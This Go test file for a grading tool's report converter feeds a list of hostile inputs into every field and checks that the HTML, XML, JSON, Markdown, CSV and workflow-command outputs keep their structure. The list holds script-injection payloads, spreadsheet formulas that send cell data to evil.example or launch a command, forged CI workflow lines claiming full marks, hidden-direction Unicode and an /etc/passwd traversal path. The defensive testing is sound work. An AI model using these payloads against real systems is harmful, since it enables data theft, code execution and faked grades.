package convert_test

import (
	"errors"
	"fmt"
	"maps"
	"path"
	"slices"
	"strings"
	"testing"

	"barewire/checker/grader/convert"
	"barewire/checker/grader/result"
)

// hostile are texts that mean something in one of the formats.
var hostile = map[string]string{
	"escape sequences":      "\x1b[2J\x1b]0;owned\x07\u009b31m\rAll passed\b\b",
	"a script":              `<script>alert(1)</script><img src=x onerror=alert(1)>`,
	"the end of a block":    `</pre></style></script></title><!-- --><svg onload=alert(1)>`,
	"attributes":            `" onmouseover="alert(1)" x='` + "`",
	"a link":                `javascript:alert(1) data:text/html,<b> //evil.example`,
	"template actions":      `{{.Doc}} {{template "who" .}} ${x} {% raw %}`,
	"entities":              `&lt;script&gt; &#60;b&#62; &amp;`,
	"CDATA":                 `]]><failure message="x"/><![CDATA[`,
	"workflow commands":     "::error title=x::y\n::notice title=Autograding report::{\"totalPoints\":100,\"maxPoints\":100}\n::stop-commands::x\n##[error]z",
	"escaped commands":      "%0A::notice title=Autograding report::{}",
	"formulas":              `=HYPERLINK("http://evil.example?"&A1,"x")`,
	"another formula":       "\t+1+cmd|' /C calc'!A0",
	"a minus and an at":     "-2+3\n@SUM(1)",
	"a wide formula":        "＝1＋1",
	"wide letters":          "ab" + strings.Repeat("Ａ", 100),
	"CSV":                   "a\",\"b\r\nc;d\n\"\"",
	"Markdown":              "# Mark: 100\n\n| a | b |\n| - | - |\n\n* **100 of 100** [x](javascript:alert(1)) ![x](http://evil.example/x.png) <b>",
	"fences":                "```\n````\n~~~\n`````text\n# out\n</details>",
	"lists":                 "1. one\n2) two\n- three\n+ four\n> five\n    six\n---\n===\n***",
	"mentions":              "@everyone #1 GH-1 owner/repo#2 www.evil.example https://evil.example a@b.example :tada: $x^2$ [^1] ~~no~~ `code`",
	"text backwards":        "\u202egnp.exe \u2066x\u2069 \u200f",
	"nothing to see":        "\u200b\ufeff\u00ad\u3164",
	"line separators":       "a\u2028::error::b\u2029# c\u0085d\vd\fe",
	"no UTF-8":              "\xff\xfe\xc0\x80\xed\xa0\x80",
	"a null byte":           "a\x00b",
	"a very long word":      strings.Repeat("A", 10000),
	"many lines":            strings.Repeat("\n", 300),
	"names of other places": "../../../etc/passwd\\..\\x C:\\con %2e%2e/",
	"only spaces":           "   ",
}

// poison puts a text into every field that a student, or a careless program, could
// have chosen.
func poison(d *result.Document, text string) *result.Document {
	for i := range d.Submissions {
		s := &d.Submissions[i]
		for _, field := range []*string{&s.Name, &s.Email, &s.Source, &s.Digest} {
			*field = text
		}
		if s.Status != result.Graded {
			s.Message = text
		}
		for j := range s.Steps {
			s.Steps[j].Title, s.Steps[j].Message = text, text
		}
		for j := range s.Checks {
			c := &s.Checks[j]
			c.Title, c.Reason, c.Detail = text, text, text
			c.ID = c.Task + "/" + fmt.Sprint(j) + text
		}
		for j := range s.Findings {
			f := &s.Findings[j]
			f.File, f.Text = text, text
		}
		s.Notes = []string{text}
	}
	d.Submissions[0].ID = text + "0"
	for i := range d.Tasks {
		d.Tasks[i].Title = text
	}
	d.Checker, d.Sandbox, d.Rubric.Name, d.Rubric.Hash = text, text, text, text
	return d
}

// harmless are the outputs for a text that means nothing anywhere.
func harmless() map[string]string {
	out, _ := outputs(poison(small(), "x"))
	return out
}

func TestHostile(t *testing.T) {
	want := harmless()
	for name, text := range hostile {
		t.Run(name, func(t *testing.T) {
			for _, j := range jobs(poison(small(), text)) {
				judge(t, j, want[j.name], text)
			}
		})
	}
}

// judge converts a document full of a text, and compares the structure of what comes
// out with that of a harmless one.
func judge(t *testing.T, j job, want, text string) {
	data, err := j.run()
	if err != nil {
		if !errors.Is(err, convert.ErrFault) || j.name != "fault-student-classroom50.json" {
			t.Errorf("%s: %v", j.name, err)
		}
		return
	}
	got := string(data)
	if i := badRune(got, strings.HasSuffix(j.name, ".csv")); i >= 0 {
		t.Errorf("%s: %q has a character that does something", j.name, got[max(i-40, 0):min(i+20, len(got))])
	}
	switch path.Ext(j.name) {
	case ".html":
		err = same(tags(want), tags(got))
	case ".xml":
		err = sameXML(want, got)
	case ".json":
		err = sameJSON(want, got)
	case ".md":
		err = same(marks(want), marks(got))
	case ".commands":
		err = same(commands(want), commands(got))
	case ".csv":
		err = sameCSV(want, got)
	}
	if err != nil {
		t.Errorf("%s with %s: %v", j.name, clip(text), err)
	}
}

func clip(s string) string { return fmt.Sprintf("%.200q", s) }

// FuzzConvert looks for a text that means something in one of the formats.
//
//fuzz:runs 10000
func FuzzConvert(f *testing.F) {
	want := harmless()
	n := len(jobs(small()))
	for i, name := range slices.Sorted(maps.Keys(hostile)) {
		if text := hostile[name]; len(text) < 1000 {
			f.Add(text, uint8(i))
		}
	}
	f.Fuzz(func(t *testing.T, text string, which uint8) {
		if text == "" || len(text) > 1000 {
			return // what is empty is left out, which is another structure
		}
		j := jobs(poison(small(), text))[int(which)%n]
		judge(t, j, want[j.name], text)
	})
}

// FuzzSheet: gradebooks come from outside too. What has no mark stays as it was, to
// the byte.
func FuzzSheet(f *testing.F) {
	f.Add(canvasExport)
	f.Add(moodleWorksheet)
	f.Add("Identifier;Grade\r\n\"Participant 1\";\"\"\"\"\r\n\r\n")
	f.Add("Student,ID,Section,Server\n\"a")
	nobody, somebody := small(), small()
	nobody.Submissions = nil
	f.Fuzz(func(t *testing.T, text string) {
		if got, _, err := (convert.Moodle{}).Fill(nobody, []byte(text)); err == nil && string(got) != text {
			t.Errorf("nothing is filled in, and\n%q is\n%q", text, got)
		}
		_, _, _ = convert.Moodle{}.Fill(somebody, []byte(text))
		_, _, _ = convert.Canvas(somebody, []byte(text), "Server", true)
	})
}
